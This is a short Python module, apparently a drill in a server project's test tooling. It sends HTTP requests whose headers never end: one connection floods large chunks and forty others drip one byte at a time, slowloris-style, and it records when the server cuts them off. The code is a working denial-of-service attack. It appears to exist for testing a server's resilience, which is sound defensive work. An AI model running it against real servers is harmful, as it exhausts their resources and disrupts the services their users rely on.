"""Requests whose headers never end: one at full speed, and many that send a byte now and then."""

from __future__ import annotations

import asyncio
from itertools import count
from typing import Final

from stellwerk.server.drills.attacks.target import BREATH, Target

BEGUN: Final = b"GET / HTTP/1.1\r\nHost: here\r\nX-Endless: "
SLOW: Final = 40  # lines that drip


async def attack(target: Target) -> None:
    await asyncio.gather(_pour(target), *(_drip(target) for _ in range(SLOW)))


async def _pour(target: Target) -> None:
    for number in count():
        more = b"x" * 20_000 if number % 2 else b"\r\nX-More: x" * 2000
        await _go_on(target, more, 0.0)
        await asyncio.sleep(BREATH)


async def _drip(target: Target) -> None:
    while True:
        await _go_on(target, b"x", 0.5)


async def _go_on(target: Target, more: bytes, pause: float) -> None:
    """A head, and more of it until the server has had enough."""
    try:
        _, writer = await target.dial()
        writer.write(BEGUN)
        while True:
            await asyncio.sleep(pause)
            writer.write(more)
            await writer.drain()
    except OSError:
        target.saw("cut off")
